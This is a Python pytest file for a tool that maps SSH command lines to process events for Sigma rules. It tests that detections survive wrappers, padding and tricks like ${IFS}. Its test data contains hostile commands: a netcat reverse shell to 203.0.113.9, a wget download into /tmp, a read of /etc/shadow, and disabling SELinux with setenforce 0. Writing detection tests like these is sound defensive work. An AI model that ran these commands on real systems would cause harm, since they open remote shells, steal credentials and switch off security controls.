"""The processes a command line starts, as Sigma rules see them: wrappers and their
options, ``$IFS``, shells handed a string, long lines -- each a way a rule could be
dodged (found by attacking the mapping)."""

from __future__ import annotations

from pathlib import Path

import pytest

from sshtrail.alertevents import MAX_EVENTS, command_events
from sshtrail.sigmarules import RuleSet, load_rules
from tests.support.sigma import sigma_rules


@pytest.fixture(scope="module")
def corpus() -> RuleSet:
    return load_rules(sigma_rules())


def raised(corpus: RuleSet, line: str) -> set[str]:
    return {
        Path(rule.path).stem.removeprefix("proc_creation_lnx_")
        for event in command_events(line, "root")
        for rule in corpus.match(event)
    }


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("true; " * (MAX_EVENTS + 10) + "setenforce 0", "security_tools_disabling"),
        ("true 1; " + "; ".join(f"true {n}" for n in range(400)) + "; setenforce 0",
         "security_tools_disabling"),
        ("sudo -u root setenforce 0", "security_tools_disabling"),
        ("nice -n 5 setenforce 0", "security_tools_disabling"),
        ("timeout 9 setenforce 0", "security_tools_disabling"),
        ("env -i A=1 /bin/sh", "env_shell_invocation"),
        ("busybox wget http://203.0.113.9/x -O /tmp/x", "wget_download_suspicious_directory"),
        ("cat${IFS}/etc/shadow", "local_account"),
        ("bash -lc 'nc -e /bin/sh 203.0.113.9 4444'", "netcat_reverse_shell"),
        ("A=1 B=2 /usr/sbin/setenforce 0", "security_tools_disabling"),
    ],
)  # fmt: skip
def test_a_rule_is_not_dodged_by_how_its_command_is_wrapped(
    corpus: RuleSet, line: str, rule: str
) -> None:
    assert rule in raised(corpus, line)


def test_a_wrapper_and_its_program_are_two_processes() -> None:
    events = command_events("sudo -u root rm -rf /tmp/x", "alice")
    assert events[0] == {
        "CommandLine": "sudo -u root rm -rf /tmp/x",
        "ParentImage": "/usr/bin/bash",
        "Image": "/usr/bin/sudo",
        "User": "alice",
    }
    assert events[1:] == [
        {
            "CommandLine": "sudo -u root rm -rf /tmp/x",
            "Image": "/usr/bin/sudo",
            "ParentImage": "/usr/bin/bash",
            "User": "alice",
        },
        {
            "CommandLine": "rm -rf /tmp/x",
            "Image": "/usr/bin/rm",
            "ParentImage": "/usr/bin/sudo",
            "User": "alice",
        },
    ]
    assert command_events("ls", None, exec_request=True)[1]["ParentImage"] == "/usr/bin/sh"
